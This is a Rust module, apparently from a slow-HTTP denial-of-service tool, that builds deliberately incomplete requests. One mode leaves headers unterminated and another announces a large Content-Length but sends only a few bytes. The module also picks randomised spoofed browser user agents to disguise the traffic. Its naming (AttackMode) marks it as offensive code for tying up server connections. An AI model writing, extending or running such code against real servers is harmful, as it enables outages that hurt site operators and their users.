//! Request template construction
//!
//! The template is the deliberately incomplete request each connection
//! writes first. In header mode it stops after a few header lines without the
//! blank line that would end the header block. In body mode the header block
//! is complete and announces a large `Content-Length`, but only a few body
//! bytes follow.

use crate::config::AttackMode;
use crate::target::Target;
use rand::seq::SliceRandom;
use rand::Rng;

/// Browser user agents the template picks from
pub const USER_AGENTS: [&str; 6] = [
    "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_6_7; en-us) AppleWebKit/534.16+ (KHTML, like Gecko) Version/5.0.3 Safari/533.19.4",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:5.0) Gecko/20100101 Firefox/5.0",
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/534.30 (KHTML, like Gecko) Chrome/12.0.742.112 Safari/534.30",
    "Opera/9.80 (Windows NT 6.1; U; en) Presto/2.9.168 Version/11.50",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; WOW64; Trident/4.0; SLCC2; .NET CLR 2.0.50727; .NET CLR 3.5.30729; .NET CLR 3.0.30729; Media Center PC 6.0; .NET4.0C; .NET4.0E)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_7_0) AppleWebKit/534.30 (KHTML, like Gecko) Chrome/12.0.742.112 Safari/534.30",
];

/// Pick one of [`USER_AGENTS`]
pub fn pick_user_agent<R: Rng + ?Sized>(rng: &mut R) -> &'static str {
    USER_AGENTS.choose(rng).copied().unwrap_or(USER_AGENTS[0])
}

/// Immutable bytes every connection starts with
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RequestTemplate {
    bytes: Vec<u8>,
}

impl RequestTemplate {
    /// Build the template for `mode`
    ///
    /// `content_length` is only used in body mode, where it is the length
    /// announced to the server.
    pub fn build(
        mode: AttackMode,
        verb: &str,
        target: &Target,
        user_agent: &str,
        content_length: usize,
    ) -> Self {
        let mut request = format!(
            "{verb} {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {user_agent}\r\n",
            path = target.path(),
            host = target.host_header(),
        );

        if mode == AttackMode::Body {
            request.push_str(&format!(
                "Content-Length: {content_length}\r\n\
                 Connection: close\r\n\
                 Referer: http://{host}/\r\n\
                 Content-Type: application/x-www-form-urlencoded\r\n\
                 Accept: text/html;q=0.9,text/plain;q=0.8,image/png,*/*;q=0.5\r\n\
                 \r\n\
                 foo=bar",
                host = target.host_header(),
            ));
        }

        Self { bytes: request.into_bytes() }
    }

    pub fn as_bytes(&self) -> &[u8] {
        &self.bytes
    }

    pub fn len(&self) -> usize {
        self.bytes.len()
    }

    pub fn is_empty(&self) -> bool {
        self.bytes.is_empty()
    }
}
